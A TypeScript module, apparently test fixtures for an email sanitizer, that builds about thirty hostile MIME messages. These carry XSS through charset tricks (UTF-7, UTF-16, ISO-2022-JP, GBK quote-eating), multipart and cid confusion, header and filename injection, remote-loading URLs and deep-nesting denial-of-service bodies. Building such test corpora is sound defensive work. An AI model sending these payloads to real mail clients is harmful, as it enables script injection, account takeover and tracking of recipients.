import { BASE64, base64, type Lair, mail } from './hostile.ts';

/** Messages whose parts, types and character sets are the trick; complete messages by what they try. */
export function mime({ url, script }: Lair): Readonly<Record<string, string>> {
  const evil = `<script>${script}</script><img src="${url}/mime" onerror="${script}">`;
  const html = 'Content-Type: text/html; charset=utf-8';
  const build = (name: string, headers: readonly string[], body: string) => [name, mail(name, headers, body)];
  const parts = (boundary: string, ...all: string[]) =>
    [...all.map((part) => `--${boundary}\r\n${part}`), `--${boundary}--`].join('\r\n');
  const multipart = (kind: string, boundary: string) =>
    `Content-Type: multipart/${kind}; boundary=${boundary}`;
  const charset = (name: string) => `Content-Type: text/html; charset=${name}`;
  const utf16 = Buffer.from(`\ufeff${evil}`, 'utf16le');
  const nested = (depth: number): string =>
    depth === 0
      ? `${html}\r\n\r\n${evil}`
      : `${multipart('alternative', `b${depth}`)}\r\n\r\n${parts(`b${depth}`, nested(depth - 1))}`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${url}/svg"/></svg>`;
  return Object.fromEntries([
    build(
      'utf-7',
      [charset('utf-7')],
      '+ADw-script+AD4-x+ADw-/script+AD4- +ADw-img src+AD0-x onerror+AD0-x+AD4-',
    ),
    build('utf-16', [charset('utf-16'), BASE64], base64(utf16)),
    build('utf-16 without saying so', [html, BASE64], base64(utf16)),
    build('iso-2022-jp', [charset('iso-2022-jp')], `<p title="\x1b$B">\x1b(B" onclick="${script}">x${evil}`),
    build('hz', [charset('hz-gb-2312')], `<p title="~{">~}" onmouseover="${script}">${evil}`),
    build(
      'gbk that eats a quote',
      [charset('gbk'), BASE64],
      base64(Buffer.concat([Buffer.from('<p title="\x81', 'latin1'), Buffer.from(`" title=" ${evil}">`)])),
    ),
    build('unknown charset', [charset('x-user-defined; x="')], evil),
    build(
      'two charsets',
      ['Content-Type: text/html; charset=utf-7; charset=utf-8', 'Content-Type: text/plain'],
      evil,
    ),
    build(
      'bytes that are no text',
      [html, BASE64],
      base64(Buffer.concat([Buffer.from([0xc0, 0xbc, 0xff, 0xfe, 0]), Buffer.from(evil)])),
    ),
    build(
      'quoted-printable',
      [html, 'Content-Transfer-Encoding: quoted-printable'],
      evil.replace(/[<>="]/g, (sign) => `=${sign.charCodeAt(0).toString(16).toUpperCase()}`),
    ),
    build('unknown encoding', [html, 'Content-Transfer-Encoding: x-evil'], evil),
    build(
      'nested alternatives',
      nested(6).split('\r\n', 1),
      nested(6).slice(nested(6).indexOf('\r\n\r\n') + 4),
    ),
    build(
      'html in two parts',
      [multipart('mixed', 'm')],
      parts(
        'm',
        `${html}\r\n\r\n<p title="<!-- <style> <textarea>`,
        `${html}\r\n\r\n</textarea></style>-->">${evil}`,
      ),
    ),
    build(
      'html beside text',
      [multipart('alternative', 'a')],
      parts('a', `Content-Type: text/plain\r\n\r\n${evil}`, `${html}\r\n\r\n${evil}`),
    ),
    build('text that is markup', ['Content-Type: text/plain'], evil),
    build(
      'xhtml',
      ['Content-Type: application/xhtml+xml'],
      `<html xmlns="http://www.w3.org/1999/xhtml"><body>${evil}</body></html>`,
    ),
    build('xml', ['Content-Type: text/xml'], `<?xml-stylesheet href="${url}/x.xsl"?><x>${evil}</x>`),
    build('svg as a message', ['Content-Type: image/svg+xml'], svg),
    build(
      'html as an attachment',
      [multipart('mixed', 'm')],
      parts(
        'm',
        `${html}\r\nContent-Disposition: attachment; filename="<img src=x onerror=${script}>.html"\r\n\r\n${evil}`,
        `Content-Type: text/plain\r\n\r\nSee above.`,
      ),
    ),
    build(
      'a message within',
      [multipart('mixed', 'm')],
      parts('m', `Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n${html}\r\n\r\n${evil}`),
    ),
    build(
      'picture that is svg',
      [multipart('related', 'r')],
      parts(
        'r',
        `${html}\r\n\r\n<img src="cid:p">`,
        `Content-Type: image/svg+xml\r\nContent-ID: <p>\r\n\r\n${svg}`,
      ),
    ),
    build(
      'picture that is a page',
      [multipart('related', 'r')],
      parts(
        'r',
        `${html}\r\n\r\n<img src="cid:p"><iframe src="cid:p"></iframe><object data="cid:p"></object>`,
        `${html}\r\nContent-ID: <p>\r\n\r\n${evil}`,
      ),
    ),
    build(
      'picture with a type that ends early',
      [multipart('related', 'r')],
      parts(
        'r',
        `${html}\r\n\r\n<img src="cid:p">`,
        `Content-Type: image/png"onerror="${script}\r\nContent-ID: <p>\r\n\r\nx`,
        `Content-Type: image/png,<script>\r\nContent-ID: <p>\r\n\r\nx`,
      ),
    ),
    build(
      'picture by an odd id',
      [multipart('related', 'r')],
      parts(
        'r',
        `${html}\r\n\r\n<img src='cid:"><script>${script}</script>'><img src="cid:%"><img src="cid:__proto__"><img src="cid:">`,
        `Content-Type: image/png\r\nContent-ID: <"><script>${script}</script>>\r\n\r\nx`,
      ),
    ),
    build(
      'content location',
      [multipart('related', 'r')],
      parts(
        'r',
        `${html}\r\nContent-Base: ${url}/\r\nContent-Location: ${url}/p\r\n\r\n<img src="a.png"><link rel=stylesheet href=a.css>`,
      ),
    ),
    build('external body', [`Content-Type: message/external-body; access-type=URL; URL="${url}/x"`], ''),
    build(
      'boundary that is markup',
      ['Content-Type: multipart/mixed; boundary="<script>"'],
      parts('<script>', `${html}\r\n\r\n${evil}`),
    ),
    build('no end', [multipart('mixed', 'm')], `--m\r\n${html}\r\n\r\n<p title='${evil}`),
    build(
      '=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=',
      [html, `Cc: "<img src=x onerror='${script}'>" <x@y.test>`, `Reply-To: <script>${script}</script>`],
      evil,
    ),
    build(
      'nested beyond measure',
      [multipart('mixed', 'b0')],
      Array.from({ length: 300 }, (_, at) => `--b${at}\r\n${multipart('mixed', `b${at + 1}`)}\r\n`).join(
        '\r\n',
      ),
    ),
    build(
      'ten thousand parts',
      [multipart('mixed', 'm')],
      parts('m', ...Array.from({ length: 3000 }, () => `${html}\r\n\r\n<b>x`), `${html}\r\n\r\n${evil}`),
    ),
  ]);
}
